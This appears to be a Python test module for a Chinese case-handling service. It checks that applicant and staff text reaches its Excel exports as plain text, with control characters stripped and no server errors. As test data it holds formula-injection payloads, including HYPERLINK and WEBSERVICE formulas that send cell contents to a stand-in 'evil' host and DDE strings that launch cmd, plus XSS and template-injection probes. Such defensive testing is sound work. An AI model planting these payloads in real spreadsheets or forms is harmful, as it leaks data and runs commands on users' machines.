"""What an applicant types reaches the supervisors' Excel files as text and nothing else: a company
named like a formula is not a live formula in the 台账, 挂图作战 or 立卷归档 export, and characters
XML cannot hold are dropped where the form stores them and again where an export writes them, so
one odd case never breaks a report (issue #13, items 1 and 2). Then the property (the issue's
"done when"): random Unicode typed into the application form on /chat, and the same text stored
raw, reaches every export and console page of the case with no server error and no formula
(HOSTILE_TEXT_EXAMPLES, default 25)."""
from __future__ import annotations

import io
import itertools
import os
import zipfile
from datetime import timedelta

import pytest
import sqlalchemy as sa
from conftest import CAL, PERMIT, STAFF_PASSWORD, console_app_on, db_of
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.casework import cases
from bot.models import Case, Escalation, Rating, Rectification, Staff, utcnow
from bot.people import staff as staff_module
from bot.platform.clock import today as china_today

pytestmark = pytest.mark.usefixtures("fast_password_hashes")

# The probe's own examples, and the other leads OWASP lists (CSV/formula injection).
HOSTILE = {
    "company": '=HYPERLINK("http://evil/"&B17,"点击查看")',
    "project": '=WEBSERVICE("http://evil/?"&A1)',
    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
    "comment": "+1+1",
    "note": "-2+3",
    "visit": "\t=1+1",
    "outcome": "=cmd|' /C calc'!A0",
}


def _signed_in(app, username="donghu-lead"):
    import re

    client = app.test_client()
    html = client.get("/console/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
    r = client.post("/console/login", data={"username": username, "password": STAFF_PASSWORD, "csrf_token": token})
    assert r.status_code == 303
    return client


def hostile_case(app, company=HOSTILE["company"], project=HOSTILE["project"], contact=HOSTILE["contact"],
                 openid="oHostile") -> str:
    """A case whose every free-text field is hostile, with an overdue item, a bad rating and its
    整改, and an escalation: so it shows in every table of every export."""
    now = utcnow()
    with db_of(app) as db:
        lead = db.scalar(sa.select(Staff).where(Staff.username == "donghu-lead"))
        case = cases.submit(db, cases.Application(
            mode="帮办", applicant_openid=openid, company_name=company, credit_code="91350100M000100Y43",
            project_name=project, region="donghu", investment_type="社会投资", stage="3", contact_name=contact,
            contact_phone="13800000000", items=(PERMIT,)), CAL)
        case.state, case.accepted_at = "in_progress", now
        db.flush()
        [item] = cases.items_of(db, case)
        item.state, item.due_date = "reviewing", china_today() - timedelta(days=3)
        rating = Rating(case_id=case.id, openid=openid, level=1, comment=HOSTILE["comment"], created_at=now)
        db.add(rating)
        db.flush()
        db.add(Rectification(case_id=case.id, rating_id=rating.id, supervisor_id=lead.id,
                             due_date=china_today() + timedelta(days=5), visit_note=HOSTILE["visit"],
                             outcome=HOSTILE["outcome"]))
        db.add(Escalation(case_id=case.id, level="联席会议", note=HOSTILE["note"], raised_by=lead.id))
        return case.number


def exports_of(client, number: str) -> dict[str, bytes]:
    today = china_today()
    period = f"from={(today - timedelta(days=30)).isoformat()}&to={today.isoformat()}"
    out = {}
    for name, url in (("ledger", f"/console/export/ledger.xlsx?{period}"),
                      ("dashboard", f"/console/export/dashboard.xlsx?{period}"),
                      ("archive", f"/console/cases/{number}/archive.xlsx")):
        r = client.get(url)
        assert r.status_code == 200, (name, r.status_code)
        out[name] = r.data
    return out


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formula(data: bytes) -> None:
    """The exports make no formula of their own: any formula is one a user smuggled in."""
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_formula_like_names_are_stored_as_text_in_every_export(console_app):
    number = hostile_case(console_app)
    files = exports_of(_signed_in(console_app), number)
    for name, data in files.items():
        assert_no_formula(data)
    # Text, kept exactly as typed, and marked so Excel keeps it text when someone edits the cell.
    values = {cell.value: cell for cell in cells(files["archive"])}
    for field in ("company", "project", "contact", "comment", "visit", "outcome"):
        cell = values[HOSTILE[field]]
        assert cell.data_type == "s" and cell.quotePrefix, field
    ledger_values = {cell.value for cell in cells(files["ledger"])}
    dashboard_values = {cell.value for cell in cells(files["dashboard"])}
    assert HOSTILE["company"] in ledger_values and HOSTILE["project"] in ledger_values
    assert {HOSTILE["company"], HOSTILE["note"], HOSTILE["comment"]} <= dashboard_values


def test_control_characters_are_dropped_where_the_case_is_stored(console_app):
    number = hostile_case(console_app, company="坏\x01字符\x0b科技\x1f有限公司", project="研发楼\x00一期",
                          contact="陈\x08经理")
    with db_of(console_app) as db:
        case = cases.by_number(db, number)
        assert (case.company_name, case.project_name, case.contact_name) == ("坏字符科技有限公司", "研发楼一期", "陈经理")


def test_a_stored_control_character_never_breaks_a_report(console_app):
    """Rows written before the form cleaned its input (or by any other way in) still export."""
    number = hostile_case(console_app)
    good = hostile_case(console_app, company="武汉光谷示例科技有限公司", project="研发楼", contact="陈经理",
                        openid="oGood")
    with db_of(console_app) as db:
        case = db.scalar(sa.select(Case).where(Case.number == number))
        case.company_name, case.project_name, case.contact_name = "坏\x01公司", "项目\x1b[2J", "陈\x02经理"
    client = _signed_in(console_app)
    files = exports_of(client, number)
    values = {cell.value for cell in cells(files["archive"])}
    assert "坏公司" in values and "项目[2J" in values and "陈经理" in values
    assert "武汉光谷示例科技有限公司" in {cell.value for cell in cells(files["ledger"])}  # the other case too
    assert client.get(f"/console/cases/{good}/archive.xlsx").status_code == 200


def test_staff_notes_with_control_characters_are_stored_without_them(console_app):
    """What staff type enters the same way: a NUL would fail on PostgreSQL, a \\x01 every export."""
    import re

    number = hostile_case(console_app)
    client = _signed_in(console_app)
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/console/cases").get_data(as_text=True))[1]
    r = client.post(f"/console/cases/{number}/notes", data={"text": "电话\x00联系\x01经办人", "csrf_token": token})
    assert r.status_code == 303
    with db_of(console_app) as db:
        assert cases.ledger_of(db, cases.by_number(db, number))[-1].detail == "电话联系经办人"


# -- the property: whatever is typed, every export and console page of the case answers ------

PROPERTY_EXAMPLES = int(os.environ.get("HOSTILE_TEXT_EXAMPLES", "25"))
# The form's questions (a cue in the prompt) → the field it fills, or a fixed answer.
FORM_CUES = [("回复「确认」提交", "确认"), ("哪个地区", "1"), ("全称", "company"), ("统一社会信用代码", "91350100M000100Y43"),
             ("请输入项目名称", "project"), ("项目代码", "无"), ("投资类型", "1"), ("重点项目", "否"), ("属于哪一类", "1"),
             ("哪个审批阶段", "1"), ("哪些事项", "1"), ("联系人）姓名", "contact"), ("联系电话", "13800138000")]
# What a refused field is answered with the second time, so the form still reaches a case.
FALLBACK = {"company": "武汉光谷示例科技有限公司", "project": "光谷示例研发楼", "contact": "陈经理"}
_addresses = itertools.count(1)

nasty = st.one_of(
    st.text(max_size=40),  # any code point but lone surrogates: control characters included
    st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x9F), max_size=20),
    st.sampled_from(["]]>", "<![CDATA[", "=HYPERLINK(\"http://evil/\"&B17,\"点击查看\")", "=WEBSERVICE(\"http://e/\")",
                     "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\x00", "\x01", "\x1b[2J", "\u202e", "\ufffe",
                     "<script>alert(1)</script>", "{{7*7}}", "%s%n", "取消", "转人工", "1"]),
    st.builds(lambda s, n: s * n, st.sampled_from(["长", "=", "\x01", "a]]>"]), st.integers(60, 3000)),
)


@st.composite
def typed(draw, core: str):
    """Something an applicant might type for a field: nasty text around a plausible core."""
    return draw(nasty) + draw(st.sampled_from(["", core])) + draw(nasty)


@pytest.fixture()
def sqlite_console(sqlite_url, fast_password_hashes):
    yield from console_app_on(sqlite_url)


def _ok(response, what):
    assert response.status_code < 500, (what, response.status_code)
    return response


def apply_in_chat(app, company: str, project: str, contact: str):
    """Fill the application form on /chat, answering by what each prompt asks; a field the form
    refuses is answered plainly the second time. Returns (say, the case number or None)."""
    import re

    client = app.test_client()
    # An address of its own: the chat's per-address rate limit would hold back a run of examples.
    n = next(_addresses)
    client.environ_base["REMOTE_ADDR"] = f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}"
    token = re.search(r'name="csrf-token" content="([^"]+)"', client.get("/chat").get_data(as_text=True))[1]

    def say(text):
        r = _ok(client.post("/chat/api/messages", json={"text": text}, headers={"X-CSRFToken": token}), text)
        return (r.get_json() or {}).get("reply", "")

    fields = {"company": company, "project": project, "contact": contact}
    asked: dict[str, int] = {}
    reply, restarts, prompt = say("申请帮办"), 0, None
    for _ in range(40):
        if m := re.search(r"申请已提交！编号 (BD-\d{4}-\d{6})", reply):
            return say, m.group(1)
        cue = next(((c, a) for c, a in FORM_CUES if c in reply), None)
        if cue is None and prompt is not None:
            # Empty or over-long input gets a note, not the question again: the form still waits.
            answer, prompt = FALLBACK.get(dict(FORM_CUES)[prompt], dict(FORM_CUES)[prompt]), None
            reply = say(answer)
            continue
        if cue is None:  # the form was left (a typed 「取消」): start again, a couple of times
            if restarts == 2:
                break
            reply, restarts = say("申请帮办"), restarts + 1
            continue
        prompt, answer = cue
        if answer in fields:
            answer = fields[answer] if not asked.get(prompt) else FALLBACK[answer]
        asked[prompt] = asked.get(prompt, 0) + 1
        reply = say(answer)
    return say, None


def every_page_of(app, number: str) -> None:
    """Every console page and export that shows the case, as its commissioner and the supervisor,
    and the API: none answers a server error, and no workbook holds a formula."""
    from urllib.parse import quote

    lead, commissioner = _signed_in(app), _signed_in(app, "donghu-1")
    with db_of(app) as db:
        case = cases.by_number(db, number)
        company = case.company_name
        case.commissioner_id = db.scalar(sa.select(Staff.id).where(Staff.username == "donghu-1"))
    for client in (lead, commissioner):
        _ok(client.get(f"/console/cases/{number}"), "case page")
        _ok(client.get("/console/cases"), "case list")
        _ok(client.get(f"/console/cases?q={quote(company[:60])}"), "search")
    for path in ("/console/dashboard", "/console/rectifications", "/console/handoffs"):
        _ok(lead.get(path), path)
    for data in exports_of(lead, number).values():
        assert_no_formula(data)
    with db_of(app) as db:
        token = staff_module.mint_token(db, db.scalar(sa.select(Staff).where(Staff.username == "donghu-1")),
                                        label="property", scopes=("read",))
    for path in (f"/api/v1/cases/{number}", "/api/v1/cases"):
        _ok(app.test_client().get(path, headers={"Authorization": f"Bearer {token}"}), path)


@settings(max_examples=PROPERTY_EXAMPLES, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture,
                                 HealthCheck.data_too_large])
@given(company=typed("科技有限公司"), project=typed("研发楼"), contact=typed("陈经理"), comment=nasty)
def test_any_typed_text_reaches_every_export_and_page_without_a_server_error(sqlite_console, company, project,
                                                                               contact, comment):
    app = sqlite_console
    # Through the form, as an applicant types it on /chat.
    say, number = apply_in_chat(app, company, project, contact)
    event("the form made a case" if number else "the form was left")
    if number:
        say("我的申请怎么样了")  # the applicant's own view of it
        every_page_of(app, number)
    # Straight into the case services (what the form would hand over), and as rows written before
    # any cleaning existed: the raw text, control characters and all, in every text column.
    raw = hostile_case(app, company=company[:200] or "-", project=project[:200] or "-", contact=contact[:100] or "-",
                       openid=f"oProp{abs(hash((company, project, contact))) % 10**9}")
    with db_of(app) as db:
        case = cases.by_number(db, raw)
        case.company_name, case.project_name, case.contact_name = company[:200], project[:200], contact[:100]
        db.scalar(sa.select(Rating).where(Rating.case_id == case.id)).comment = comment[:500]
        cases.log(db, case, "note", comment[:500], actor_kind="commissioner", actor_id="donghu-1")
    every_page_of(app, raw)

